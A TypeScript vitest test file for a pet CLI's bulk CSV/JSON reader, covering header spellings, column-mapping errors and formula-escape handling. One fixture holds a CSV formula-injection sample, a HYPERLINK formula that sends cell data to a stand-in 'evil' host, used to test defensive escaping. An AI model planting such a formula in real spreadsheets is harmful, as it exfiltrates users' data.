import { describe, expect, it } from 'vitest';
import type { InputFormat, InputRow, ReadOptions } from '../../src/bulk/reader';
import { headerField, spellings } from '../../src/bulk/formats/columns';
import { UsageError } from '../../src/errors';
import { failure, rows } from './read-rows';

/** Which CSV column fills which field (src/bulk/formats/columns.ts, csv.ts). */

const read = (text: string, options: ReadOptions = {}, format?: InputFormat): Promise<InputRow[]> => rows(text, format, 7, options);
const refusal = async (text: string, options: ReadOptions = {}): Promise<string> => (await failure(text, undefined, options)).message;

const pets = (found: InputRow[]) => found.map((row) => row.newPet ?? row.reason);

describe('headers as people write them', () => {
  it.each([
    ...['Name,Category Id,Status', 'NAME,CATEGORY ID,STATUS', 'name,category_id,status', 'name,category-id,status'],
    ...['Name,CategoryId,Status', ' name , Category  ID ,  status', 'Na_me,CATEGORY_ID,Sta-tus', 'name,Category - Id,status'],
  ])('`Name,Category Id,Status` and every other spelling fill name, categoryId and status: %j', async (header) => {
    expect(pets(await read(`${header}\nRex,3,Available\n`))).toEqual([{ name: 'Rex', categoryId: 3, status: 'available' }]);
  });
});

describe('a header refused (a field missing or twice, a --column header missing or twice): what it is told', () => {
  const LACKS = "lists the spellings taken for the missing field, the --column flag, and the file's columns";
  it.for<[string, string, ReadOptions, string | ReturnType<typeof expect.stringMatching>]>([
    [LACKS, 'Animal,Category,Status\nRex,1,sold\n', {}, 'line 1: the CSV header lacks name and categoryId; expected name,categoryId,status; accepted for name: name, Name, NAME; for categoryId: categoryId, category_id, category-id, Category Id, CATEGORY ID (case, spaces, _ and - do not matter), or any other header with --column name="<header>" --column categoryId="<header>"; its columns: Animal,Category,Status'],
    [LACKS, 'name,Category,status\nRex,1,sold\n', {}, 'line 1: the CSV header lacks categoryId; expected name,categoryId,status; accepted for categoryId: categoryId, category_id, category-id, Category Id, CATEGORY ID (case, spaces, _ and - do not matter), or any other header with --column categoryId="<header>"; its columns: name,Category,status'],
    ['a header of one column still says to try --delimiter', 'name|categoryId\nRex|1\n', {}, expect.stringMatching(/^line 1: the CSV header lacks name and categoryId; expected name,categoryId,status; if its columns are separated by another character, give it with --delimiter; accepted for name: /)],
    ['UTF-16 without a BOM (NULs between the letters) says to give --encoding', Buffer.from('name\tcategoryId\r\nRex\t1\r\n', 'utf16le').toString(), {}, expect.stringMatching(/^line 1: the CSV header lacks name and categoryId; expected name,categoryId,status; it holds NUL characters, as UTF-16 without a BOM does: give --encoding utf-16le \(or utf-16be\); accepted for name: /)],
    ['two headers for one field refuse the file, name both, and say how to choose', 'Name,Category Id,category_id\nRex,1,2\n', {}, 'line 1: column categoryId appears twice in the CSV header ("Category Id", "category_id"); choose one with --column categoryId="<header>"'],
    ["--column: a header the file lacks refuses it, naming the header and listing the file's", 'Name,Cat,Status\nRex,1,sold\n', { columns: [{ field: 'categoryId', header: 'Category' }] }, 'line 1: the CSV header has no column "Category" (--column categoryId=Category); its columns: Name,Cat,Status'],
    ['--column: a header the file has twice refuses it', 'Animal,animal,categoryId\nRex,Bo,1\n', { columns: [{ field: 'name', header: 'Animal' }] }, 'line 1: the column "Animal" (--column name=Animal) appears twice in the CSV header'],
  ])('%s: %j', async ([, text, options, message]) => {
    expect(await refusal(text, options)).toEqual(message);
  });

  it('every spelling the message offers is one the header takes', async () => {
    for (const field of ['name', 'categoryId', 'status'] as const) {
      for (const spelling of spellings(field)) {
        const header = ['name', 'categoryId', 'status'].map((other) => (other === field ? spelling : other)).join(',');
        expect(pets(await read(`${header}\nRex,1,sold\n`)), header).toEqual([{ name: 'Rex', categoryId: 1, status: 'sold' }]);
      }
    }
  });
});

describe('--column field=header', () => {
  it('maps any header to a field, for several, matched as written, trimmed, any case; a loose match ignored', async () => {
    const several: ReadOptions = { columns: [{ field: 'name', header: 'Animal' }, { field: 'status', header: 'State' }, { field: 'categoryId', header: 'Category' }] };
    expect(pets(await read('Animal,Category,State\nRex,7,Sold\n', several))).toEqual([{ name: 'Rex', categoryId: 7, status: 'sold' }]);
    const ignored: string[] = [];
    const options: ReadOptions = { columns: [{ field: 'name', header: ' animal name ' }], onIgnored: (name) => ignored.push(name) };
    expect(pets(await read('Name,Animal Name,categoryId\nMs Smith,Rex,1\n', options))).toEqual([{ name: 'Rex', categoryId: 1 }]);
    expect(ignored).toEqual(['Name']);
    // As written: `Animal_Name` is another header than `Animal Name`.
    expect(await refusal('Animal_Name,categoryId\nRex,1\n', { columns: [{ field: 'name', header: 'Animal Name' }] })).toBe(
      'line 1: the CSV header has no column "Animal Name" (--column name=Animal Name); its columns: Animal_Name,categoryId',
    );
  });

  it('a header whose field --column gives another header may be the --id-column', async () => {
    const options: ReadOptions = { columns: [{ field: 'name', header: 'Animal' }], idColumn: 'name' };
    expect(await read('Name,Animal,categoryId\nA-1,Rex,1\n', options)).toEqual([{ row: 1, line: 2, newPet: { name: 'Rex', categoryId: 1 }, rowId: 'A-1' }]);
    expect(headerField('name', options.columns)).toBeUndefined();
    expect(headerField('Category Id', options.columns)).toBe('categoryId');
    expect(headerField('animal', options.columns)).toBe('name');
  });

  it('applies to CSV only: JSON or NDJSON input with --column is a usage error; JSON fields are matched by their exact names', async () => {
    const rows = await read('{"Name":"Rex","category_id":1}\n', {}, 'ndjson');
    expect(rows[0]!.reason).toBe('name: required; categoryId: required');
    const columns = [{ field: 'name' as const, header: 'Animal' }];
    for (const [text, format] of [['[{"name":"Rex","categoryId":1}]', 'json'], ['{"name":"Rex","categoryId":1}\n', 'ndjson']]) {
      const refusal = read(text!, { columns });
      await expect(refusal).rejects.toBeInstanceOf(UsageError);
      await expect(refusal).rejects.toThrow(new RegExp(`^--column applies to CSV headers, not ${format} input$`));
    }
  });
});

describe('cells stay text: the `\'` -o csv writes before a formula is dropped on import', () => {
  it('before =, +, -, @, a tab or a CR, and nowhere else; in a status, a category id, the --id-column', async () => {
    // Each cell as the file has it, and the name read from it.
    const cells: Array<[string, string]> = [
      [`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`, '=HYPERLINK("http://evil/?x="&A1,"click")'],
      ["'-2+3", '-2+3'],
      ["'+1", '+1'],
      ["'@SUM(1+1)", '@SUM(1+1)'],
      // The tab and the CR then go as a name's other surrounding whitespace does: the schema trims names.
      ['"\'\t=1"', '=1'],
      ['"\'\r=1"', '=1'],
      ...["'Tis", "''=x", '=plain', "x'=y", "''"].map((kept): [string, string] => [kept, kept]),
    ];
    const csv = ['name,categoryId,status', ...cells.map(([cell]) => `${cell},1,`)].join('\n');
    expect((await read(csv)).map((row) => row.newPet?.name ?? row.reason)).toEqual(cells.map(([, name]) => name));
    // JSON carries the exact value.
    expect((await read('[{"name":"\'=x","categoryId":1}]')).map((row) => row.newPet?.name)).toEqual(["'=x"]);
    const rows = await read("Intake,name,categoryId,status\n'-7,Rex,'-5,'=sold\n", { idColumn: 'Intake' });
    expect(rows[0]!.rowId).toBe('-7');
    expect(rows[0]!.reason).toBe('status must be one of available, pending, sold, not "=sold"');
    const category = await read("name,categoryId\nRex,'-5\n");
    expect(category[0]!.newPet).toEqual({ name: 'Rex', categoryId: -5 });
  });
});
